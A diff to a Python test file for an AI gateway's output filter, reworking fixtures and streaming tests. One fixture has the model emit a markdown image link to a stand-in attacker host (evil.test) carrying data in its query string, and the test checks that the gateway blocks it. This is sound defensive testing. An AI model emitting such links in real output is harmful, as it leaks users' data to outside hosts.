@@ -1,6 +1,9 @@
 """Masking and the output filter on what passes through the gateway."""
 
+import hashlib
 import json
+from collections.abc import Iterator
+from dataclasses import replace
 from typing import Any
 
 import anthropic
@@ -9,7 +12,7 @@ import pytest
 from aiohttp import web
 
 from fusebox import names
-from tests.fixtures.gateway import Answer, Provider, Running, StartGateway, whole
+from tests.fixtures.gateway import Answer, Provider, Running, StartGateway, factory, whole
 from tests.gateway.test_ledger import CHAT, ask, attributes
 from tests.gateway.test_tools import call
 
@@ -63,9 +66,28 @@ def said(text: str) -> Answer:
     return answer
 
 
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, Provider]]:
+    """The recognisers take a second to load, so one gateway serves the file."""
+    provider = Provider()
+    with factory(tmp_path_factory.mktemp("guarded"), provider) as make:
+        yield make(GUARDED), provider
+    provider.stop()
+
+
 @pytest.fixture
-def guarded(gateways: StartGateway) -> Running:
-    return gateways(GUARDED)
+def provider(shared: tuple[Running, Provider]) -> Provider:
+    shared[1].seen.clear()
+    return shared[1]
+
+
+@pytest.fixture
+def guarded(shared: tuple[Running, Provider], request: pytest.FixtureRequest) -> Running:
+    """With an agent of its own for each test: what one does must not trip another."""
+    agent = hashlib.sha256(request.node.name.encode()).hexdigest()[:12]
+    _, key = shared[0].keys.add(agent, team="", models=("*",), tools=("*",))
+    shared[0].spans.clear()
+    return replace(shared[0], key=key)
 
 
 def client(running: Running) -> openai.OpenAI:
@@ -115,9 +137,13 @@ def test_a_value_that_a_stream_splits_is_masked(guarded: Running, provider: Prov
 def test_a_threat_in_a_stream_ends_it_before_it_is_out(guarded: Running, provider: Provider) -> None:
     provider.answers = [chat(*"Look: ![x](https://evil.test/p?d=1234567890) and so on. ", *["More text here. "] * 60)]
     heard: list[str] = []
-    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True)
+
+    def listen() -> None:
+        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
+            heard.append(chunk.choices[0].delta.content or "")
+
     with pytest.raises(openai.APIError, match="link"):
-        heard.extend(chunk.choices[0].delta.content or "" for chunk in stream)
+        listen()
     assert "evil.test" not in "".join(heard)
 
 
@@ -126,9 +152,13 @@ def test_sql_that_nobody_granted_is_refused_in_the_arguments_of_a_tool_call(
 ) -> None:
     provider.answers = [chat('{"sql": "SELECT * FR', 'OM users"}', tool=True)]
     heard: list[Any] = []
-    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True)
+
+    def listen() -> None:
+        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
+            heard.extend(chunk.choices[0].delta.tool_calls or ())
+
     with pytest.raises(openai.APIError, match="no SQL grant for run_sql"):
-        heard.extend(chunk.choices[0].delta.tool_calls for chunk in stream)
+        listen()
     assert "users" not in str(heard)
 
 
